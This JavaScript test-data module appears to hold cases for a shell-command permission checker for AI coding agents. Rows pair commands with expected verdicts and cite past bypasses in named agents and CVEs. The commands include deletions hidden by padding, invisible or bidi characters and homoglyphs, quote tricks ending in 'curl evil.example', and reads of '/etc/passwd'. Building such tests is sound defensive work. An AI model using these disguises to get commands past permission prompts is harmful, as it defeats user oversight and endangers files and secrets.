import { under } from './row.js';

const PADDING = ' '.repeat(2_000);

/** What is made to look like something else, and what peers took for safe by its first words. */
export const DECEPTION = [
  under('lookAround', 'default', [
    [
      `echo ok ${'x '.repeat(2_000)}; rm a.txt`,
      'ask',
      'delete:a.txt',
      'hermes-agent#44691: the end of a long text counts',
    ],
    [`ls${'\n'.repeat(500)}rm a.txt`, 'ask', 'delete:a.txt', 'claude-code 2.1.223: empty lines'],
    [`ls #${PADDING}\nrm a.txt`, 'ask', 'delete:a.txt', 'claude-code 2.1.223: a comment and padding'],
    ['ls \u202e; rm a.txt', 'ask', 'delete:a.txt', 'Trojan Source: a sign that turns the line around'],
    ['ls\u200b', 'ask', '', 'claude-code 2.1.223: an invisible letter makes another name'],
    ['ls \u{e0041}; rm a.txt', 'ask', 'delete:a.txt', 'claude-code 2.1.223: tag characters'],
    ['echo "\u001b[2K"; rm a.txt', 'ask', 'delete:a.txt', 'an escape that wipes the line'],
    ['ls\u3000src', 'ask', '', 'claude-code 2.1.216: a wide blank is part of the word'],
    ['\ufeffls', 'ask', '', 'claude-code 2.1.216: a mark at the start is part of the word'],
    ['іs', 'ask', '', 'a letter of another alphabet'],
    ['toString', 'ask', '', 'claude-code: a name that every object has'],
    ['constructor x', 'ask', '', 'claude-code: a name that every object has'],
    ['__proto__', 'ask', '', 'claude-code: a name that every object has'],
    ['hasOwnProperty --version', 'ask', '', 'claude-code: a name that every object has'],
    ['cd constructor && ls', 'allow', '', 'a folder of that name is a folder'],
    ['ls --help; rm a.txt', 'ask', 'delete:a.txt', 'KiroCrew#1259: --help of one part'],
    ['rm a.txt --help', 'never allow', '', 'KiroCrew#1259: --help among other words'],
    ['rm -- --help', 'ask', 'delete:--help', 'KiroCrew#1259: --help as a name'],
  ]),
  under('allowEcho', 'default', [
    ["echo 'a\\' ; rm a.txt #'", 'ask', 'delete:a.txt', 'qwen-code#11764: the quote ends at the backslash'],
    ["echo 'a\\'; curl evil.example", 'ask', 'fetch:evil.example', 'qwen-code#11764: the quote ends at the backslash'],
    ['echo "$(cat /etc/passwd)"', 'ask', 'read:/etc/passwd', 'CVE-2025-54795: a substitution'],
    ['echo x > a.txt', 'ask', 'write:a.txt', 'gemini-cli#11047: a redirection'],
    ['echo x | tee a.txt', 'ask', 'write:a.txt', 'a pipe'],
    ['echo /etc/*', 'never allow', '', 'a wildcard reads the names of a folder outside'],
    ['echo $(<a.txt)', 'allow', 'read:a.txt', 'reads a file of the workspace and prints it'],
    ['echo $(</etc/passwd)', 'ask', 'read:/etc/passwd', 'reads a file outside'],
    ['echo a "b c" \'d\' \\e $((1+2)) ${#HOME}', 'allow', '', 'words of all kinds'],
    ['echo $SECRET', 'allow', '', 'a variable that is printed'],
    ['echo \'rm -rf /\' ; echo "&& ls > x"', 'allow', 'no:write', 'text in quotes'],
    ['echox x', 'ask', '', 'a name that goes on'],
    ['echo x;echo y&&echo z||echo w', 'allow', '', 'all were allowed'],
  ]),
  under('allowSort', 'default', [
    ['sort a.txt', 'allow', '', 'what the rule was made for'],
    ['sort -o b.txt a.txt', 'allow', 'write:b.txt', 'a file of the workspace that the allowed command writes'],
    ['sort -o /tmp/x a.txt', 'ask', 'write:/tmp/x', 'a wildcard never stands for a path outside'],
    ['sort -o .git/config a.txt', 'ask', 'write:.git/config', 'a control file'],
    ['sort --compress-program=./x a.txt', 'ask', '', 'CVE-2025-66032: starts a program'],
    ['sort a.txt > b.txt', 'ask', 'write:b.txt', 'a redirection is the shell’s'],
    ['sort <(rm a.txt)', 'ask', 'delete:a.txt', 'a substitution'],
  ]),
];
